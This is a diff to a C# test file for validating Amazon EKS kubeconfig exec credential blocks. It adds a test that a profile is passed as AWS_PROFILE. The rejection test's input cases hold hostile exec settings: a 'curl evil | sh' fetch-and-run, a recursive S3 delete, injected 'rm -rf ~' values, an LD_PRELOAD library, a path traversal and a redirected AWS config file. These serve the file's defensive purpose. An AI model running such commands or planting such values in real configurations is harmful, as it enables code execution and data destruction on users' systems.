@@ -48,11 +48,27 @@ public sealed class EksKubeconfigTrustTests
     }
 
     [Theory]
+    [InlineData(true)]
+    [InlineData(false)]
+    public void A_profile_goes_into_the_exec_env_as_AWS_PROFILE_and_is_kept(bool awsCli)
+    {
+        var yaml = EksKubeconfig.Build(Id, "https://abc.gr7.us-east-1.eks.amazonaws.com", "Q0E=", "ctx", awsCli, profile: "team-dev");
+
+        var exec = KubeconfigFile.Parse(KubeconfigFile.Normalize(yaml, "ctx"), "test").Users.Single().UserCredentials.ExternalExecution;
+
+        var env = Assert.Single(exec.EnvironmentVariables);
+        Assert.Equal(("AWS_PROFILE", "team-dev"), (env["name"], env["value"]));
+    }
+
+    [Theory]
     [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']")]
     [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [--region, us-east-1, s3, rm, s3://bucket, --recursive, --output, json]")]
     [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, 'shop; rm -rf ~', --region, us-east-1]")]
     [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]\n      env: [{name: LD_PRELOAD, value: /tmp/x.so}]")]
     [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, '../../etc']")]
+    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]\n      env: [{name: AWS_PROFILE, value: dev}, {name: LD_PRELOAD, value: /tmp/x.so}]")]
+    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]\n      env: [{name: AWS_PROFILE, value: '-x; rm -rf ~'}]")]
+    [InlineData("      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [--region, us-east-1, eks, get-token, --cluster-name, shop, --output, json]\n      env: [{name: AWS_CONFIG_FILE, value: /tmp/evil}]")]
     [InlineData("      apiVersion: client.authentication.k8s.io/v1alpha1\n      command: ksctl\n      args: [token, --cluster-name, shop, --region, us-east-1]")]
     public void Any_other_exec_is_refused(string exec)
     {
